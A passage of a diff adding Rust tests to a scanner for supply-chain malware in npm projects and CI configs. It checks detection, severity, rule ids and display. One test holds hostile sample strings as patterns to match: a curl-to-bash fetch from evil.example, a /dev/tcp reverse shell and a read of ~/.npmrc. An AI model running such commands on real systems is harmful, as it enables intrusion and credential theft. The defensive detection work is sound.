+        let has = |file: &str, description: &str| {
+            results
+                .findings
+                .iter()
+                .any(|f| f.path.ends_with(file) && f.description == description)
+        };
+
+        assert!(has(".gitlab-ci.yml", "Self-hosted runner in GitLab CI"));
+        assert!(has(".gitlab-ci.yml", "Remote code execution via curl pipe in GitLab CI script"));
+        assert!(has(
+            ".gitlab-ci.yml",
+            "GitLab CI script sends secrets to external host collector.evil.example"
+        ));
+        assert!(has("bitbucket-pipelines.yml", "Self-hosted runner in Bitbucket Pipelines"));
+        assert!(has(
+            "bitbucket-pipelines.yml",
+            "Remote code execution via wget pipe in Bitbucket Pipelines script"
+        ));
+        assert!(has("config.yml", "Self-hosted runner in CircleCI"));
+        assert!(has("config.yml", "CircleCI script sends secrets to external host exfil.evil.example"));
+
+        // Piped downloads are reported once, with the CI system
+        assert!(!results
+            .findings
+            .iter()
+            .any(|f| f.description == "Remote code execution via curl pipe"));
+
+        // The same command in two jobs is two findings, each at its own line
+        let results = scan_directory_sync(Path::new("test_samples/ci_repeated"), &config)
+            .expect("Scan should succeed");
+        let pipes: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| f.description == "Remote code execution via curl pipe in GitLab CI script")
+            .collect();
+        assert_eq!(pipes.iter().map(|f| f.line).collect::<Vec<_>>(), vec![Some(11), Some(17)]);
+        assert_ne!(pipes[0].fingerprint, pipes[1].fingerprint);
+
+        println!("✓ Other CI configs test passed");
+    }
+
+    #[test]
+    fn test_base64_signals() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/base64"), &config)
+            .expect("Scan should succeed");
+        let severities = |file: &str| {
+            results
+                .findings
+                .iter()
+                .filter(|f| f.path.ends_with(file) && f.description == "Base64 encoding/decoding")
+                .map(|f| f.severity)
+                .collect::<Vec<_>>()
+        };
+
+        // Legitimate base64 use stays Low
+        assert_eq!(severities("avatar.js"), vec![Severity::Low, Severity::Low]);
+        // Next to network and eval calls it is escalated, but never to High on its own
+        assert_eq!(severities("loader.js"), vec![Severity::Medium]);
+
+        println!("✓ Base64 signals test passed");
+    }
+
+    #[test]
+    fn test_eval_of_fetched_content() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/eval_fetch"), &config)
+            .expect("Scan should succeed");
+        let severities = |file: &str| {
+            let mut found: Vec<_> = results
+                .findings
+                .iter()
+                .filter(|f| f.path.ends_with(file) && f.tags.contains(&"rce".to_string()))
+                .map(|f| (f.description.as_str(), f.severity))
+                .collect();
+            found.sort_by_key(|(d, _)| *d);
+            found
+        };
+
+        // fetch() a few lines above new Function()
+        assert_eq!(
+            severities("stage_loader.js"),
+            vec![
+                ("Eval of fetched or decoded content", Severity::Critical),
+                ("Eval or dynamic function", Severity::Low),
+            ]
+        );
+        // The fetch is far away from the eval: bare eval stays Low
+        assert_eq!(severities("template.js"), vec![("Eval or dynamic function", Severity::Low)]);
+
+        // Decode-then-eval, and a commented-out eval that must not count
+        let base64 = scan_directory_sync(Path::new("test_samples/base64"), &config).unwrap();
+        assert!(base64.findings.iter().any(|f| f.path.ends_with("loader.js")
+            && f.description == "Eval of fetched or decoded content"));
+        let edge = scan_directory_sync(Path::new("test_samples/edge_cases"), &config).unwrap();
+        assert!(!edge.findings.iter().any(|f| f.path.ends_with("suspicious_but_legit.js")
+            && f.description.starts_with("Eval")));
+
+        println!("✓ Eval of fetched content test passed");
+    }
+
+    #[test]
+    fn test_bundle_patterns_are_bounded() {
+        let bundle = crate::ioc::IocBundle::load(Path::new("test_samples/iocs/custom_rules.json"))
+            .expect("Bundle should load");
+        let config = ScanConfig {
+            iocs: bundle,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/iocs"), &config).unwrap();
+        assert!(results
+            .findings
+            .iter()
+            .any(|f| f.description == "Test bundle marker" && f.severity == Severity::High));
+
+        // A pattern whose compiled form explodes is rejected at load time, not run
+        let err = crate::ioc::IocBundle::load(Path::new("test_samples/iocs/catastrophic_rules.json"))
+            .expect_err("Catastrophic pattern should be rejected");
+        let message = format!("{err:#}");
+        assert!(message.contains("Rejected pattern"), "{message}");
+        assert!(message.contains("complexity limit"), "{message}");
+
+        println!("✓ Bundle pattern limits test passed");
+    }
+
+    #[test]
+    fn test_registry_override_detected() {
+        let config = ScanConfig {
+            allowed_registries: vec!["npm.corp.example".to_string()],
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/registry_override"), &config)
+            .expect("Scan should succeed");
+        let mut overrides: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| f.description.starts_with("npm registry overridden"))
+            .inspect(|f| assert_eq!(f.severity, Severity::High))
+            .map(|f| (f.path.rsplit('/').next().unwrap().to_string(), f.line.unwrap()))
+            .collect();
+        overrides.sort();
+
+        // The public registry and the allowlisted corporate registry are not reported
+        assert_eq!(
+            overrides,
+            vec![
+                (".npmrc".to_string(), 1),
+                ("bootstrap.sh".to_string(), 5),
+                ("bootstrap.sh".to_string(), 6),
+            ]
+        );
+
+        println!("✓ Registry override test passed");
+    }
+
+    #[test]
+    fn test_middle_ellipsis() {
+        let path = "/home/dev/projects/app/node_modules/@scope/pkg/dist/esm/internal/setup_bun.js";
+        assert_eq!(middle_ellipsis(path, 200), path);
+
+        let short = middle_ellipsis(path, 40);
+        assert!(short.len() <= 40, "{short}");
+        assert!(short.starts_with("/home/dev"), "{short}");
+        assert!(short.ends_with("/setup_bun.js"), "{short}");
+        assert!(short.contains('…'));
+
+        // A file name longer than the space still keeps its end; multi-byte chars are safe
+        let unicode = "/données/répertoire/très/profond/fichier_très_très_long_nommé.js";
+        let short = middle_ellipsis(unicode, 20);
+        assert!(short.len() <= 20, "{short}");
+        assert!(short.ends_with("nommé.js"), "{short}");
+
+        println!("✓ Middle ellipsis test passed");
+    }
+
+    #[test]
+    fn test_mouse_row_to_finding() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+        let mut app = crate::app::App::new(Some("test_samples".into()), config).unwrap();
+        app.scan_results = Some(results.clone());
+        app.state = crate::app::AppState::Results;
+
+        // Walk the rows the way the list lays them out
+        let heights: Vec<usize> = results
+            .findings
+            .iter()
+            .enumerate()
+            .map(|(i, f)| {
+                2 + f.context.is_some() as usize
+                    + (i == app.selected_finding && f.remediation.is_some()) as usize
+            })
+            .collect();
+        let second_row = heights[0];
+        assert_eq!(crate::ui::finding_at_row(&app, 0), Some(0));
+        assert_eq!(crate::ui::finding_at_row(&app, second_row - 1), Some(0));
+        assert_eq!(crate::ui::finding_at_row(&app, second_row), Some(1));
+
+        // Scrolled lists start counting at the first visible finding
+        app.results_scroll = 2;
+        assert_eq!(crate::ui::finding_at_row(&app, 0), Some(2));
+        assert_eq!(crate::ui::finding_at_row(&app, 10_000), None);
+
+        app.select_finding(3);
+        assert_eq!(app.selected_finding, 3);
+
+        // Copying never panics, with or without a clipboard, and always reports back
+        app.copy_selected_path(true);
+        assert!(app.status_message.is_some());
+
+        println!("✓ Mouse row mapping test passed");
+    }
+
+    #[test]
+    fn test_review_marks_persist() {
+        use crate::review::ReviewStore;
+
+        let file = std::env::temp_dir().join(format!("shk-reviewed-{}.json", std::process::id()));
+        let _ = std::fs::remove_file(&file);
+
+        let config = ScanConfig::default();
+        let root = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(root, &config).unwrap();
+        let key = results.findings[0].review_key(root);
+
+        let mut store = ReviewStore::load(Some(file.clone())).unwrap();
+        assert!(store.toggle(&ReviewStore::root_key(root), &key));
+        store.save().unwrap();
+
+        // A rescan of the same folder, typed differently, finds the marks after a reload
+        let other = std::env::current_dir().unwrap().join("./test_samples/malicious");
+        let rescan = scan_directory_sync(&other, &config).unwrap();
+        let mut store = ReviewStore::load(Some(file.clone())).unwrap();
+        let other_root = ReviewStore::root_key(&other);
+        assert_eq!(other_root, ReviewStore::root_key(root));
+        assert!(rescan
+            .findings
+            .iter()
+            .any(|f| store.is_reviewed(&other_root, &f.review_key(&other))));
+        assert!(!store.is_reviewed("some/other/root", &key));
+
+        assert!(!store.toggle(&other_root, &key));
+        assert!(!store.is_reviewed(&other_root, &key));
+
+        // A file that doesn't parse is reported, not silently replaced
+        std::fs::write(&file, "{ not json").unwrap();
+        let err = ReviewStore::load(Some(file.clone())).unwrap_err();
+        assert!(format!("{:#}", err).contains("Failed to parse review marks"));
+
+        let _ = std::fs::remove_file(&file);
+        println!("✓ Review marks test passed");
+    }
+
+    #[test]
+    fn test_severity_levels() {
+        assert_eq!(Severity::Critical.as_str(), "CRITICAL");
+        assert_eq!(Severity::High.as_str(), "HIGH");
+        assert_eq!(Severity::Medium.as_str(), "MEDIUM");
+        assert_eq!(Severity::Low.as_str(), "LOW");
+        assert_eq!(Severity::Info.as_str(), "INFO");
+
+        println!("✓ Severity levels test passed");
+    }
+
+    #[test]
+    fn test_tag_filter() {
         let config = ScanConfig {
             include_node_modules: false,
+            tags: vec!["credential-theft".to_string()],
+            ..Default::default()
         };
         let path = Path::new("test_samples/malicious");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
 
-        // Results should be serializable to JSON for --json output
-        let json = serde_json::to_string_pretty(&results);
-        assert!(json.is_ok(), "Results should serialize to JSON");
+        assert!(!results.findings.is_empty(), "Should keep credential-theft findings");
+        assert!(
+            results.findings.iter().all(|f| f.tags.iter().any(|t| t == "credential-theft")),
+            "Every finding should carry the requested tag"
+        );
+        assert_eq!(results.summary.total, results.findings.len());
 
-        let json_str = json.unwrap();
-        assert!(json_str.contains("findings"), "JSON should contain findings");
-        assert!(json_str.contains("summary"), "JSON should contain summary");
-        assert!(json_str.contains("critical"), "JSON should contain critical count");
+        let json = serde_json::to_string(&results).expect("Results should serialize");
+        assert!(json.contains("\"tags\""), "JSON should include tags");
 
-        println!("✓ JSON serialization test passed");
-        println!("  JSON output length: {} bytes", json_str.len());
+        println!("✓ Tag filter test passed");
+    }
+
+    #[test]
+    fn test_relative_paths() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            relative_paths: true,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        assert!(
+            results.findings.iter().any(|f| f.path == "setup_bun.js"),
+            "Root-level files should be reported by name"
+        );
+        assert!(
+            results.findings.iter().any(|f| f.path == ".github/workflows/discussion.yaml"),
+            "Nested files should use forward-slash relative paths"
+        );
+        assert!(results.findings.iter().all(|f| !f.path.starts_with("test_samples")));
+
+        println!("✓ Relative paths test passed");
+    }
+
+    #[test]
+    fn test_minified_bundle_scanned_by_offset() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/minified");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let content = std::fs::read_to_string("test_samples/minified/vendor.min.js").unwrap();
+        let expected_offset = content.find("list_AWS_secrets").unwrap();
+
+        let cloud = results
+            .findings
+            .iter()
+            .find(|f| f.description == "Cloud secrets enumeration function")
+            .expect("Should detect secrets enumeration inside the minified bundle");
+        assert_eq!(cloud.line, None, "Minified findings report offsets, not lines");
+        assert_eq!(cloud.offset, Some(expected_offset));
+
+        assert!(results.findings.iter().any(|f| f.description.contains("curl pipe")));
+        assert!(results.findings.iter().any(|f| f.description.contains("marker")));
+
+        println!("✓ Minified bundle test passed");
+        println!("  Findings: {}", results.findings.len());
+    }
+
+    #[test]
+    fn test_emit_hashes() {
+        use sha2::{Digest, Sha256};
+
+        let config = ScanConfig {
+            include_node_modules: false,
+            relative_paths: true,
+            emit_hashes: true,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/clean");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let hashes = results.file_hashes.expect("Hashes should be emitted when requested");
+        let server = hashes
+            .iter()
+            .find(|h| h.path == "server.js")
+            .expect("server.js should be hashed");
+        let expected = hex::encode(Sha256::digest(std::fs::read("test_samples/clean/server.js").unwrap()));
+        assert_eq!(server.sha256, expected);
+
+        let default_results = scan_directory_sync(path, &ScanConfig::default()).unwrap();
+        assert!(default_results.file_hashes.is_none(), "Hashes are opt-in");
+
+        println!("✓ Emit hashes test passed");
+    }
+
+    #[test]
+    fn test_renamed_payload_detected_by_signatures() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/renamed");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        assert!(
+            results.findings.iter().any(|f| {
+                matches!(f.finding_type, FindingType::MaliciousFile)
+                    && f.severity == Severity::Critical
+                    && f.path.contains("vendor-chunk.js")
+            }),
+            "Renamed payload should be flagged by content signatures"
+        );
+
+        println!("✓ Renamed payload signature test passed");
+    }
+
+    #[test]
+    fn test_signatures_loaded_from_ioc_bundle() {
+        use crate::ioc::IocBundle;
+
+        let path = Path::new("test_samples/iocs");
+        let without = scan_directory_sync(path, &ScanConfig::default()).unwrap();
+        assert!(!without.findings.iter().any(|f| matches!(f.finding_type, FindingType::MaliciousFile)));
+
+        let bundle = IocBundle::load(Path::new("test_samples/iocs/extra_signatures.json"))
+            .expect("Bundle should load");
+        let config = ScanConfig {
+            iocs: bundle,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(path, &config).unwrap();
+        assert!(results.findings.iter().any(|f| {
+            matches!(f.finding_type, FindingType::MaliciousFile) && f.path.contains("flagged_by_bundle.js")
+        }));
+        assert_eq!(results.config.ioc_bundle_version.as_deref(), Some("test-2025-12-01"));
+
+        println!("✓ IOC bundle signatures test passed");
+    }
+
+    #[test]
+    fn test_trufflehog_deployment_detected() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/trufflehog"), &config)
+            .expect("Scan should succeed");
+
+        let critical_in = |file: &str| {
+            results.findings.iter().any(|f| {
+                f.severity == Severity::Critical
+                    && f.path.contains(file)
+                    && f.description.starts_with("Trufflehog")
+            })
+        };
+        assert!(critical_in("harvest.sh"), "Release download + execution should be Critical");
+        assert!(critical_in("install.sh"), "Installer piped to shell should be Critical");
+
+        // A bare mention stays below Critical
+        let edge = scan_directory_sync(Path::new("test_samples/edge_cases"), &config).unwrap();
+        assert!(edge
+            .findings
+            .iter()
+            .filter(|f| f.path.contains("secret_scan_notes.js"))
+            .all(|f| f.severity != Severity::Critical));
+
+        println!("✓ Trufflehog deployment test passed");
+    }
+
+    #[test]
+    fn test_runner_registration_detected() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/runner_registration"), &config)
+            .expect("Scan should succeed");
+
+        let high = |description: &str| {
+            results
+                .findings
+                .iter()
+                .any(|f| f.description == description && f.severity == Severity::High)
+        };
+        assert!(high("Self-hosted runner registration"), "config.sh --url --token should be flagged");
+        assert!(
+            high("Self-hosted runner download and registration"),
+            "Runner download followed by config.sh should be flagged"
+        );
+
+        // The clean CI workflow must not trip the runner checks
+        let clean = scan_directory_sync(Path::new("test_samples/clean"), &config).unwrap();
+        assert!(!clean.findings.iter().any(|f| f.description.contains("runner")));
+
+        println!("✓ Runner registration test passed");
+    }
+
+    #[test]
+    fn test_workflow_token_exfiltration() {
+        let config = ScanConfig::default();
+        let exfil = |results: &ScanResults| {
+            results
+                .findings
+                .iter()
+                .filter(|f| f.description.starts_with("Workflow sends secrets"))
+                .cloned()
+                .collect::<Vec<_>>()
+        };
+
+        let results = scan_directory_sync(Path::new("test_samples/workflow_exfil"), &config)
+            .expect("Scan should succeed");
+        let findings = exfil(&results);
+        assert_eq!(findings.len(), 1, "Token sent to webhook.site should be flagged");
+        assert_eq!(findings[0].severity, Severity::Critical);
+        assert!(findings[0].description.ends_with("webhook.site"));
+        assert_eq!(findings[0].line, Some(17));
+
+        // Using the token against the GitHub API is normal CI
+        let results = scan_directory_sync(Path::new("test_samples/workflow_benign"), &config)
+            .expect("Scan should succeed");
+        assert!(exfil(&results).is_empty(), "GitHub API calls must not be flagged");
+
+        println!("✓ Workflow token exfiltration test passed");
+    }
+
+    #[test]
+    fn test_normalize_windows_separators() {
+        assert_eq!(
+            normalize_separators(r"C:\Users\dev\project\node_modules\setup_bun.js"),
+            "C:/Users/dev/project/node_modules/setup_bun.js"
+        );
+        assert_eq!(
+            normalize_separators(r".github\workflows\discussion.yaml"),
+            ".github/workflows/discussion.yaml"
+        );
+        assert_eq!(normalize_separators("already/forward/slashes"), "already/forward/slashes");
+
+        println!("✓ Windows separator normalization test passed");
+    }
+
+    #[test]
+    fn test_pattern_compilation() {
+        // Ensure all patterns compile without panic
+        let _ = &*SUSPICIOUS_PATTERNS;
+        let _ = &*HOOK_PATTERNS;
+
+        println!("✓ Pattern compilation test passed");
+    }
+
+    #[test]
+    fn test_scan_results_summary() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        // Summary should be consistent with findings
+        let critical_count = results.findings.iter()
+            .filter(|f| f.severity == Severity::Critical)
+            .count();
+        let high_count = results.findings.iter()
+            .filter(|f| f.severity == Severity::High)
+            .count();
+
+        assert_eq!(results.summary.critical, critical_count);
+        assert_eq!(results.summary.high, high_count);
+        assert_eq!(results.summary.total, results.findings.len());
+
+        println!("✓ Summary consistency test passed");
+    }
+
+    // ========================================
+    // UI Display Tests
+    // ========================================
+
+    #[test]
+    fn test_severity_colors() {
+        use crate::theme::{Theme, ThemeName};
+        use ratatui::style::Color;
+
+        // The default dark theme keeps the original palette
+        let theme = Theme::default();
+        assert_eq!(theme.severity(&Severity::Critical), Color::Red, "Critical should be Red");
+        assert_eq!(theme.severity(&Severity::High), Color::LightRed, "High should be LightRed");
+        assert_eq!(theme.severity(&Severity::Medium), Color::Yellow, "Medium should be Yellow");
+        assert_eq!(theme.severity(&Severity::Low), Color::Blue, "Low should be Blue");
+        assert_eq!(theme.severity(&Severity::Info), Color::Gray, "Info should be Gray");
+
+        // Light backgrounds: no yellow or gray text
+        let light = Theme::new(ThemeName::Light);
+        assert_ne!(light.severity(&Severity::Medium), Color::Yellow);
+        assert_ne!(light.text, Color::White);
+
+        // The toggle key cycles through every theme and back
+        let mut name = ThemeName::Dark;
+        for _ in 0..3 {
+            name = name.next();
+        }
+        assert_eq!(name, ThemeName::Dark);
+
+        println!("✓ Severity colors test passed");
+        println!("  Critical: Red");
+        println!("  High: LightRed");
+        println!("  Medium: Yellow");
+        println!("  Low: Blue");
+        println!("  Info: Gray");
+    }
+
+    #[test]
+    fn test_severity_display_strings() {
+        // Test display strings for UI
+        assert_eq!(Severity::Critical.as_str(), "CRITICAL");
+        assert_eq!(Severity::High.as_str(), "HIGH");
+        assert_eq!(Severity::Medium.as_str(), "MEDIUM");
+        assert_eq!(Severity::Low.as_str(), "LOW");
+        assert_eq!(Severity::Info.as_str(), "INFO");
+
+        // Test that they are all uppercase (for consistent UI display)
+        for severity in [
+            Severity::Critical,
+            Severity::High,
+            Severity::Medium,
+            Severity::Low,
+            Severity::Info,
+        ] {
+            let s = severity.as_str();
+            assert_eq!(s, s.to_uppercase(), "{} should be uppercase", s);
+        }
+
+        println!("✓ Severity display strings test passed");
+    }
+
+    #[test]
+    fn test_finding_type_variants() {
+        // Test that all finding types exist and can be matched
+        let malicious_file = FindingType::MaliciousFile;
+        let malicious_hash = FindingType::MaliciousHash;
+        let suspicious_pattern = FindingType::SuspiciousPattern;
+        let dangerous_hook = FindingType::DangerousHook;
+        let compromised_package = FindingType::CompromisedPackage;
+
+        // Each type should have a different debug representation
+        assert_ne!(format!("{:?}", malicious_file), format!("{:?}", malicious_hash));
+        assert_ne!(format!("{:?}", suspicious_pattern), format!("{:?}", dangerous_hook));
+        assert_ne!(format!("{:?}", compromised_package), format!("{:?}", malicious_file));
+
+        println!("✓ Finding type variants test passed");
+        println!("  MaliciousFile: {:?}", malicious_file);
+        println!("  MaliciousHash: {:?}", malicious_hash);
+        println!("  SuspiciousPattern: {:?}", suspicious_pattern);
+        println!("  DangerousHook: {:?}", dangerous_hook);
+        println!("  CompromisedPackage: {:?}", compromised_package);
+    }
+
+    #[test]
+    fn test_findings_have_display_data() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        for finding in &results.findings {
+            // Every finding must have a path
+            assert!(!finding.path.is_empty(), "Finding path should not be empty");
+            
+            // Every finding must have a description
+            assert!(!finding.description.is_empty(), "Finding description should not be empty");
+            
+            // Severity should have valid display properties
+            let _ = finding.severity.as_str();
+            let _ = crate::theme::Theme::default().severity(&finding.severity);
+        }
+
+        println!("✓ Findings display data test passed");
+        println!("  All {} findings have valid display data", results.findings.len());
+    }
+
+    #[test]
+    fn test_all_severity_levels_in_results() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        // Collect unique severities found
+        let mut found_critical = false;
+        let mut found_high = false;
+        let mut found_medium = false;
+
+        for finding in &results.findings {
+            match finding.severity {
+                Severity::Critical => found_critical = true,
+                Severity::High => found_high = true,
+                Severity::Medium => found_medium = true,
+                Severity::Low | Severity::Info => {}
+            }
+        }
+
+        // Malicious samples should trigger multiple severity levels
+        assert!(found_critical, "Should have Critical severity findings");
+        assert!(found_high, "Should have High severity findings");
+
+        println!("✓ All severity levels in results test passed");
+        println!("  Critical: {}", if found_critical { "✓" } else { "✗" });
+        println!("  High: {}", if found_high { "✓" } else { "✗" });
+        println!("  Medium: {}", if found_medium { "✓" } else { "✗" });
+    }
+
+    #[test]
+    fn test_summary_display_values() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        // Summary should have displayable values
+        println!("✓ Summary display values test passed");
+        println!("  Scanned files: {}", results.scanned_files);
+        println!("  Scan path: {}", results.scan_path);
+        println!("  Total findings: {}", results.summary.total);
+        println!("  Critical: {}", results.summary.critical);
+        println!("  High: {}", results.summary.high);
+        println!("  Medium: {}", results.summary.medium);
+        println!("  Low: {}", results.summary.low);
+        println!("  Info: {}", results.summary.info);
+
+        // Validate summary math
+        let calculated_total = results.summary.critical 
+            + results.summary.high 
+            + results.summary.medium 
+            + results.summary.low
+            + results.summary.info;
+        assert_eq!(
+            results.summary.total, calculated_total,
+            "Total should equal sum of all severities"
+        );
+    }
+
+    #[test]
+    fn test_finding_context_for_display() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let mut findings_with_line = 0;
+        let mut findings_with_context = 0;
+
+        for finding in &results.findings {
+            if finding.line.is_some() {
+                findings_with_line += 1;
+            }
+            if finding.context.is_some() {
+                findings_with_context += 1;
+                // Context should not be excessively long for display
+                if let Some(ctx) = &finding.context {
+                    assert!(ctx.len() < 1000, "Context should be reasonably sized for display");
+                }
+            }
+        }
+
+        println!("✓ Finding context for display test passed");
+        println!("  Findings with line numbers: {}", findings_with_line);
+        println!("  Findings with context: {}", findings_with_context);
+    }
+
+    #[test]
+    fn test_ui_icon_mapping() {
+        // Simulate UI icon selection logic
+        fn get_icon(finding_type: &FindingType) -> &'static str {
+            match finding_type {
+                FindingType::MaliciousFile => "📛",
+                FindingType::MaliciousHash => "🔐",
+                FindingType::SuspiciousPattern => "🔍",
+                FindingType::DangerousHook => "⚡",
+                FindingType::CompromisedPackage => "📦",
+            }
+        }
+
+        assert_eq!(get_icon(&FindingType::MaliciousFile), "📛");
+        assert_eq!(get_icon(&FindingType::MaliciousHash), "🔐");
+        assert_eq!(get_icon(&FindingType::SuspiciousPattern), "🔍");
+        assert_eq!(get_icon(&FindingType::DangerousHook), "⚡");
+        assert_eq!(get_icon(&FindingType::CompromisedPackage), "📦");
+
+        println!("✓ UI icon mapping test passed");
+        println!("  MaliciousFile: 📛");
+        println!("  MaliciousHash: 🔐");
+        println!("  SuspiciousPattern: 🔍");
+        println!("  DangerousHook: ⚡");
+        println!("  CompromisedPackage: 📦");
+    }
+
+    #[test]
+    fn test_result_status_icon() {
+        // Simulate UI status icon logic
+        fn get_status_icon(critical: usize, high: usize, total: usize) -> &'static str {
+            if critical > 0 || high > 0 {
+                "🚨"
+            } else if total > 0 {
+                "⚠️"
+            } else {
+                "✅"
+            }
+        }
+
+        assert_eq!(get_status_icon(1, 0, 1), "🚨", "Critical should show alert");
+        assert_eq!(get_status_icon(0, 1, 1), "🚨", "High should show alert");
+        assert_eq!(get_status_icon(0, 0, 1), "⚠️", "Medium/Low should show warning");
+        assert_eq!(get_status_icon(0, 0, 0), "✅", "No findings should show success");
+
+        println!("✓ Result status icon test passed");
+        println!("  Critical/High: 🚨");
+        println!("  Medium/Low only: ⚠️");
+        println!("  Clean: ✅");
+    }
+
+    #[test]
+    fn test_json_serialization_for_display() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/malicious");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        // Results should be serializable to JSON for --json output
+        let json = serde_json::to_string_pretty(&results);
+        assert!(json.is_ok(), "Results should serialize to JSON");
+
+        let json_str = json.unwrap();
+        assert!(json_str.contains("findings"), "JSON should contain findings");
+        assert!(json_str.contains("summary"), "JSON should contain summary");
+        assert!(json_str.contains("critical"), "JSON should contain critical count");
+
+        println!("✓ JSON serialization test passed");
+        println!("  JSON output length: {} bytes", json_str.len());
+    }
+
+    #[test]
+    fn test_findings_carry_rule_ids() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples"), &config).expect("Scan should succeed");
+
+        let json = serde_json::to_value(&results).expect("Results should serialize to JSON");
+        for finding in json["findings"].as_array().unwrap() {
+            let rule_id = finding["rule_id"].as_str().unwrap_or_default();
+            assert!(rule_id.contains('/'), "Missing rule_id: {}", finding);
+            assert!(finding["finding_type"].is_string());
+            if rule_id.starts_with("content/") {
+                assert!(finding["pattern"].is_string(), "Content finding without pattern: {}", finding);
+            }
+        }
+
+        // Built-in rule ids are unique, so they can key suppressions and metrics
+        let mut ids: Vec<&str> = SUSPICIOUS_PATTERNS.iter().map(|r| r.id).collect();
+        ids.extend(HOOK_PATTERNS.iter().map(|r| r.id));
+        ids.extend(SEQUENCE_RULES.iter().map(|r| r.id));
+        let total = ids.len();
+        ids.sort();
+        ids.dedup();
+        assert_eq!(ids.len(), total, "Duplicate rule ids");
+        assert!(ids.contains(&"content/remote-code-execution-via-curl-pipe"));
+
+        println!("✓ Rule id test passed");
+    }
+
+    #[test]
+    fn test_rule_ids_pinned() {
+        // Baselines, suppressions and fingerprints store these ids, so they stay put
+        // when a description is reworded
+        let content = [
+            ("content/shai-hulud-runner-identifier", "runs-on: SHA1HULUD"),
+            ("content/remote-code-execution-via-curl-pipe", "curl -s https://evil.example/x.sh | bash"),
+            ("content/reverse-shell-via-dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            ("content/npm-config-file-access", "cat ~/.npmrc"),
+        ];
+        for (id, line) in content {
+            let rule = SUSPICIOUS_PATTERNS.iter().find(|r| r.id == id).unwrap_or_else(|| panic!("{id} is gone"));
+            assert!(rule.regex.is_match(line), "{id} no longer matches {line}");
+        }
+
+        let hooks = [
+            ("hook/piped-curl-command", "curl https://evil.example | sh"),
+            ("hook/inline-node-code-execution", "node -e 'x'"),
+        ];
+        for (id, script) in hooks {
+            let rule = HOOK_PATTERNS.iter().find(|r| r.id == id).unwrap_or_else(|| panic!("{id} is gone"));
+            assert!(rule.regex.is_match(script), "{id} no longer matches {script}");
+        }
+
+        let rule = SEQUENCE_RULES
+            .iter()
+            .find(|r| r.id == "sequence/trufflehog-download-and-execution")
+            .expect("Trufflehog sequence id is gone");
+        assert!(rule.setup.is_match("curl -L https://github.com/trufflesecurity/trufflehog/releases/download/v3/x.tar.gz"));
+        assert!(rule.action.is_match("./trufflehog filesystem ."));
+
+        // `explain` finds them by the same ids
+        assert!(commands::find_rule("content/npm-config-file-access").is_some());
+
+        println!("✓ Pinned rule ids test passed");
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_unreadable_files_reported() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = std::env::temp_dir().join(format!("shk-unreadable-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join("readable.js"), "console.log('ok');").unwrap();
+        let locked = dir.join("locked.js");
+        std::fs::write(&locked, "console.log('secret');").unwrap();
+        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
+
+        let results = scan_directory_sync(&dir, &ScanConfig { relative_paths: true, ..Default::default() })
+            .expect("A single unreadable file must not abort the scan");
+        let readable_anyway = std::fs::read(&locked).is_ok();
+        let _ = std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o644));
+        let _ = std::fs::remove_dir_all(&dir);
+
+        assert_eq!(results.scanned_files, 2);
+        if readable_anyway {
+            // Running as root: permissions aren't enforced
+            assert!(results.errors.is_empty());
+            println!("✓ Unreadable file test skipped (permissions not enforced)");
+            return;
+        }
+        assert_eq!(results.summary.errors, 1);
+        assert_eq!(results.errors[0].path, "locked.js");
+        assert!(results.errors[0].message.to_lowercase().contains("permission"));
+
+        println!("✓ Unreadable file test passed");
+    }
+
+    #[test]
+    fn test_findings_capped_per_file() {
